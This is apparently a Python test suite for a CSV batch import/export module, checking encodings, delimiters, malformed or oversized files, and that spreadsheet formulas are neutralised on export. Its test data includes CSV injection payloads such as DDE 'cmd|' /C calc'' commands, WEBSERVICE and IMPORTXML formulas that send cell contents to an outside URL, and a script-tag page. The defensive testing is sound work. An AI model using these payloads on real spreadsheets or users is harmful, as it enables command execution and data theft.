"""The bytes of a batch: encodings, delimiters, quotes and formulas, and there and back again."""

from __future__ import annotations

import csv
import time
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from animatic.batch import ROWS_MOST, Row, briefs
from animatic.batch_csv import Parsed, as_csv, parse_csv
from animatic.batch_file import BYTES_MOST
from animatic.brief import Brief, complete
from tests.batches import MODELS, PICTURED, parsed

# ── reading: bytes ─────────────────────────────────────────────────────────────────────────────────────────

TABLE = 'model{0}prompt\r\nKling V3{0}"Über dem Café,\nlangsam; „ruhig“\t– so"\r\n'
PROMPT = "Über dem Café,\nlangsam; „ruhig“\t– so"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_a_table_is_read_in_each_encoding_and_with_each_delimiter(encoding: str, delimiter: str):
    told = parse_csv(TABLE.format(delimiter).encode(encoding), MODELS)
    assert (told.refusals, [row.prompt for row in told.rows]) == ((), [PROMPT])


@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
def test_a_table_is_read_with_each_kind_of_line_end(newline: str):
    told = parse_csv(newline.join(("model,prompt", "Kling V3,x", "", "Kling V3,y")).encode(), MODELS)
    assert [(row.number, row.prompt) for row in told.rows] == [(2, "x"), (4, "y")]


def test_blanks_beside_a_delimiter_do_not_count():
    told = parsed("model , prompt", 'Kling V3 , "one, two"')
    assert (told.refusals, [row.prompt for row in told.rows]) == ((), ["one, two"])


def test_rows_are_counted_as_spreadsheets_count_them():
    told = parsed("model,prompt", 'Kling V3,"one', 'cell"', "", "Klong,x")
    assert [one.row for one in told.refusals] == [4]


def test_what_spreadsheets_write_above_a_table_is_no_row():
    assert [row.number for row in parsed("sep=;", "model;prompt", "Kling V3;x").rows] == [2]


@pytest.mark.hostile("CSV")
@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"", "The file is empty."),
        (b"\xef\xbb\xbf", "The file is empty."),
        (b"model\n" + b"x" * BYTES_MOST, "The file is larger than 2 MB: split it into several."),
        (
            b"PK\x03\x04rest",
            "This is a workbook: open it in your spreadsheet and save it as “CSV UTF-8”.",
        ),
        (b"\xff\xfem", "The file's letters cannot be read: save it again as “CSV UTF-8”."),
        (b"model\n\x81\x8d", "The file's letters cannot be read: save it again as “CSV UTF-8”."),
    ],
)
def test_a_file_that_is_no_table_is_refused_with_a_sentence(data: bytes, sentence: str):
    assert [one.words for one in parse_csv(data, MODELS).refusals] == [sentence]


WILD = {
    "NUL in a text": b"model,prompt\nKling V3,a\0b\n",
    "nothing but NUL": bytes(50),
    "UTF-32": "model,prompt\nKling V3,x".encode("utf-32"),
    "half a surrogate pair": b"model,prompt\nKling V3,\xed\xa0\x80",
    "two marks of order": b"\xef\xbb\xbf\xef\xbb\xbfmodel,prompt\nKling V3,x",
    "a page": b"<html><script>alert(1)</script>",
    "writing that turns round": "model,prompt\n\u202eKlong V3\u2066,x".encode(),
    "a name that turns round": "model,\u202exyz\0\nKling V3,x".encode(),
    "shorter rows": b"model,prompt,seconds\nKling V3\n\nKling V3,x\n",
    "longer rows": b"model\n" + b"Kling V3,x,x\n" * 50,
    "one name many times": b"model" + b",prompt" * 90 + b"\nKling V3" + b",x" * 90,
    "lines alone": b"model,prompt\n" + b"\n" * 1_900_000,
    "marks alone": b'"' * 1_900_000,
    "commas alone": b"," * 1_900_000,
    "very many rows": b"model,prompt\n" + b"Kling V3,x\n" * 170_000,
    "very many wrong rows": b"model,prompt\n" + b"Klong V3,x\n" * 170_000,
    "a cell that swallows the rest": b'model,prompt\nKling V3,"' + b"x,\n" * 600_000,
}


@pytest.mark.hostile("CSV")
@pytest.mark.parametrize("data", WILD.values(), ids=list(WILD))
def test_a_wild_file_is_read_or_refused_soon_and_in_words_that_can_be_read(data: bytes):
    begun = time.process_time()
    told = parse_csv(data, MODELS)
    assert time.process_time() - begun < 10
    assert told.rows or told.refusals
    assert len(told.rows) + len(told.refusals) <= ROWS_MOST + 1
    for refusal in told.refusals:
        assert refusal.words.isprintable()
        assert refusal.column.isprintable()
        assert refusal.words.endswith((".", "?"))
    for brief in briefs(told.rows, {}, MODELS):
        if isinstance(brief, Brief):
            model = next(one for one in MODELS if (one.provider, one.name) == (brief.provider, brief.model))
            complete(brief, model).prompt.encode()
            assert "\0" not in complete(brief, model).prompt


@pytest.mark.hostile("CSV")
@given(st.binary(max_size=300) | st.text(alphabet="model,;\"\t\n\r x='", max_size=200).map(str.encode))
def test_no_file_raises_anything(data: bytes):
    for start in (b"", b"model,prompt\n", b"\xff\xfe"):
        told = parse_csv(start + data, MODELS)
        assert told.rows or told.refusals
        assert all(one.words.endswith((".", "?")) for one in told.refusals)


# ── formulas ───────────────────────────────────────────────────────────────────────────────────────────────

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://a.test")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "＝1",
    "'=1",
    "''@x",
    "a;=1",
    "a;'+1",
    "a\n-1",
    "\t=1",
    "';@1",
    "\0=1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("https://films.example/"&A1; "//a")',
    '=WEBSERVICE("https://films.example/"&A1)',
    "\r\n=1",
)


@pytest.mark.hostile("CSV")
@pytest.mark.parametrize("cell", FORMULAS)
def test_what_looks_like_a_formula_is_text_and_leaves_as_text(cell: str):
    row = Row(
        picture=cell, prompt=cell, provider="akool", model="create", campaign=cell, choices={"effect": cell}
    )
    written = as_csv([row])
    for one in list(csv.reader(StringIO(written.decode("utf-8-sig"), newline="")))[1]:
        assert not one.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    assert parse_csv(written, MODELS) == Parsed((row,), ())


@pytest.mark.hostile("CSV")
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("cell", FORMULAS)
def test_no_formula_begins_in_a_spreadsheet_that_separates_cells_otherwise(cell: str, delimiter: str):
    written = as_csv([Row(picture=cell, prompt=cell, campaign=f"x{cell}", choices={"effect": cell})])
    for record in csv.reader(StringIO(written.decode("utf-8-sig"), newline=""), delimiter=delimiter):
        assert not any(one.startswith(tuple("=+-@＝＋－＠")) for one in record)


def test_a_formula_from_elsewhere_is_taken_as_it_stands():
    assert parsed("model,prompt", "Kling V3,=1+1").rows[0].prompt == "=1+1"
    assert parsed("model,prompt", "Kling V3,'tis the lamp").rows[0].prompt == "'tis the lamp"


# ── there and back ─────────────────────────────────────────────────────────────────────────────────────────

TEXT = st.one_of(
    st.text(max_size=20),
    st.text(alphabet="'=+-@\t\r\n\",;| a", max_size=8),
    st.sampled_from(FORMULAS),
).filter(lambda text: not text or text.strip())
NAMES = st.text(max_size=8).map(lambda text: text.replace("|", "").replace("\n", "").strip()).filter(bool)


@st.composite
def any_rows(draw: st.DrawFn) -> Row:
    model = draw(st.sampled_from(PICTURED))
    options = st.sampled_from([option.name for option in model.options])
    return Row(
        picture=draw(TEXT),
        last_picture=draw(TEXT),
        references=tuple(draw(st.lists(NAMES, max_size=3))),
        prompt=draw(TEXT),
        provider=model.provider,
        model=model.name,
        campaign=draw(TEXT),
        choices=draw(st.dictionaries(options, TEXT.filter(bool), max_size=4)),
    )


@given(st.lists(any_rows(), min_size=1, max_size=5))
def test_what_is_written_reads_back_as_it_was(rows: list[Row]):
    assert parse_csv(as_csv(rows), MODELS) == Parsed(tuple(rows), ())


def test_no_rows_are_written_as_their_columns_alone():
    assert as_csv([]).decode("utf-8-sig").startswith('"picture","last_picture","references","prompt"')
